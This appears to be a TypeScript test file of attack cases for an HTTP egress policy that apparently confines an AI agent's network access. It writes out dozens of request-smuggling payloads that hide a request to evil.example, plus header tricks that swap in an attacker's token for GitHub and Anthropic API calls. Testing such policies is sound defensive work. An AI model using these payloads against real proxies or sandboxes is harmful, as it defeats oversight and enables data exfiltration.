import type { AttackCase } from "./attack_case.ts";
import { get } from "./probe.ts";
import { attackersToken } from "./secrets.ts";
import { smuggled } from "./steer_world.ts";

const host = "Host: api.github.com\r\n";
const hiddenPath = "/hidden-from-policy";
const hidden = get("evil.example", { path: hiddenPath });
const chunked = "Transfer-Encoding: chunked\r\n";

function post(fields: string, body: string): string {
  return `POST /outer HTTP/1.1\r\n${host}${fields}\r\n${body}`;
}

/** Requests whose end is disputed: what is behind it would be a request that nobody has looked at. */
const disputed: readonly (readonly [trick: string, request: string])[] = [
  [
    "Content-Length before Transfer-Encoding",
    post(`Content-Length: 4\r\n${chunked}`, `0\r\n\r\n${hidden}`),
  ],
  [
    "Transfer-Encoding before Content-Length",
    post(`${chunked}Content-Length: ${hidden.length + 5}\r\n`, `0\r\n\r\n${hidden}`),
  ],
  ["two codings", post("Transfer-Encoding: chunked, identity\r\n", `0\r\n\r\n${hidden}`)],
  ["chunked twice", post("Transfer-Encoding: chunked, chunked\r\n", `0\r\n\r\n${hidden}`)],
  ["an unknown coding", post("Transfer-Encoding: xchunked\r\n", `0\r\n\r\n${hidden}`)],
  ["a coding in quotes", post('Transfer-Encoding: "chunked"\r\n', `0\r\n\r\n${hidden}`)],
  ["a coding with a tab", post("Transfer-Encoding:\tchunked\x0b\r\n", `0\r\n\r\n${hidden}`)],
  ["a coding field with a blank", post("Transfer-Encoding : chunked\r\n", `0\r\n\r\n${hidden}`)],
  ["a folded coding", post("Transfer-Encoding:\r\n chunked\r\n", `0\r\n\r\n${hidden}`)],
  ["a coding behind a CR", post("X: y\rTransfer-Encoding: chunked\r\n", `0\r\n\r\n${hidden}`)],
  ["a coding behind a bare LF", post("X: y\nTransfer-Encoding: chunked\r\n", `0\r\n\r\n${hidden}`)],
  [
    "two lengths",
    post(`Content-Length: 0\r\nContent-Length: ${hidden.length}\r\n`, hidden),
  ],
  ["a list of lengths", post(`Content-Length: 0, ${hidden.length}\r\n`, hidden)],
  ["a signed length", post("Content-Length: +0\r\n", hidden)],
  ["a negative length", post("Content-Length: -1\r\n", hidden)],
  ["a length in hexadecimal", post("Content-Length: 0x0\r\n", hidden)],
  ["a length with a blank inside", post("Content-Length: 0 0\r\n", hidden)],
  ["a length that wraps round to 0", post("Content-Length: 18446744073709551616\r\n", hidden)],
  ["an underscore for the dash", post(`Content_Length: ${hidden.length}\r\n`, hidden)],
  ["a chunk size that wraps round", post(chunked, `10000000000000000\r\n${hidden}`)],
  ["a chunk size with 0x", post(chunked, `0x0\r\n\r\n${hidden}`)],
  ["a chunk size with a blank", post(chunked, `0 \r\n\r\n${hidden}`)],
  ["a chunk size with a sign", post(chunked, `+0\r\n\r\n${hidden}`)],
  ["a chunk that ends in a bare LF", post(chunked, `1\r\na\n0\r\n\r\n${hidden}`)],
  ["a chunk size that ends in a bare LF", post(chunked, `1\na\r\n0\r\n\r\n${hidden}`)],
  ["a chunk without its end", post(chunked, `1\r\nab\r\n0\r\n\r\n${hidden}`)],
  ["a chunk extension with a bare LF", post(chunked, `1;a\nb\r\na\r\n0\r\n\r\n${hidden}`)],
  ["a last chunk of many zeros", post(chunked, `000000000\r\n\r\n${hidden}`)],
  ["a trailer with a bare LF", post(chunked, `0\r\nX: y\n\r\n${hidden}`)],
  ["a body on GET", `GET /outer HTTP/1.1\r\n${host}Content-Length: 5\r\n\r\nhello${hidden}`],
  ["a bare LF that ends the head", `GET /outer HTTP/1.1\r\n${host.trim()}\n\n${hidden}`],
  ["a bare CR that ends the head", `GET /outer HTTP/1.1\r\n${host}X: y\r\r${hidden}`],
  ["HTTP/1.0 with a coding", `POST /outer HTTP/1.0\r\n${host}${chunked}\r\n0\r\n\r\n${hidden}`],
  ["HTTP/0.9", `GET /outer\r\n${hidden}`],
  ["HTTP/2.0 in the request line", `GET /outer HTTP/2.0\r\n${host}\r\n${hidden}`],
  ["HTTP/2's preface", `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n${hidden}`],
  [
    "an upgrade to h2c",
    `GET /outer HTTP/1.1\r\n${host}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n` +
    `HTTP2-Settings: AAMAAABkAAQAoAAAAAIAAAAA\r\n\r\n${hidden}`,
  ],
  [
    "an upgrade to TLS",
    `OPTIONS * HTTP/1.1\r\n${host}Connection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n${hidden}`,
  ],
  [
    "an upgrade to WebSocket that is not answered with one",
    `GET /outer HTTP/1.1\r\n${host}Connection: Upgrade\r\nUpgrade: websocket\r\n` +
    `Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n${hidden}`,
  ],
  [
    "an upgrade to a list of protocols",
    `GET /outer HTTP/1.1\r\n${host}Connection: Upgrade\r\nUpgrade: websocket, h2c\r\n\r\n${hidden}`,
  ],
  [
    "an expectation and no body",
    post("Expect: 100-continue\r\nContent-Length: 0\r\n", hidden),
  ],
  ["Keep-Alive and a length of none", post("Connection: content-length\r\n", hidden)],
  [
    "Connection that names the length",
    post("Connection: content-length\r\nContent-Length: 5\r\n", `hello${hidden}`),
  ],
  [
    "Connection that names the coding",
    post(`Connection: transfer-encoding\r\n${chunked}`, `0\r\n\r\n${hidden}`),
  ],
];

const own = `Bearer ${attackersToken}`;

/** Ways to have a request count as the attacker's own, so that what it reads or writes is its own. */
const identities: readonly (readonly [trick: string, fields: string])[] = [
  ["Authorization", `Authorization: ${own}\r\n`],
  ["two Authorizations", `Authorization: ${own}\r\nauthorization: ${own}\r\n`],
  ["AUTHORIZATION", `AUTHORIZATION: ${own}\r\n`],
  ["a blank before the colon", `Authorization : ${own}\r\n`],
  ["a folded Authorization", `Authorization:\r\n ${own}\r\n`],
  ["Proxy-Authorization", `Proxy-Authorization: ${own}\r\n`],
  ["Connection that names Authorization", `Connection: authorization\r\nAuthorization: ${own}\r\n`],
  ["a NUL in the name", `Authorization\0: ${own}\r\n`],
];

const claudeIdentities: readonly (readonly [trick: string, fields: string])[] = [
  ["x-api-key", `x-api-key: ${attackersToken}\r\n`],
  ["X_API_KEY", `X_API_KEY: ${attackersToken}\r\n`],
  ["x-api_key", `x-api_key: ${attackersToken}\r\n`],
  ["Authorization", `Authorization: ${own}\r\n`],
  ["x-api-key that Connection names", `Connection: x-api-key\r\nx-api-key: ${attackersToken}\r\n`],
  ["two keys", `x-api-key: ${attackersToken}\r\nX-Api-Key: ${attackersToken}\r\n`],
];

export const smugglingCases: readonly AttackCase[] = [
  ...disputed.map(([trick, request]) =>
    smuggled(`a request that no policy has seen, by ${trick}`, { request, hidden: hiddenPath })
  ),
  ...identities.map(([trick, fields]) =>
    smuggled(`GitHub to see its own token, by ${trick}`, {
      request: get("api.github.com", { fields }),
    })
  ),
  ...claudeIdentities.map(([trick, fields]) =>
    smuggled(`Claude to see its own key, by ${trick}`, {
      connect: "api.anthropic.com:443",
      request: get("api.anthropic.com", { fields }),
    })
  ),
  smuggled("GitHub to see its own token, by a trailer", {
    request: post(`${chunked}Trailer: Authorization\r\nConnection: close\r\n`, "") +
      `0\r\nAuthorization: ${own}\r\n\r\n`,
  }),
  smuggled("GitHub to see its own token, by a query parameter", {
    request: get("api.github.com", { path: `/?access_token=${attackersToken}` }),
  }),
];
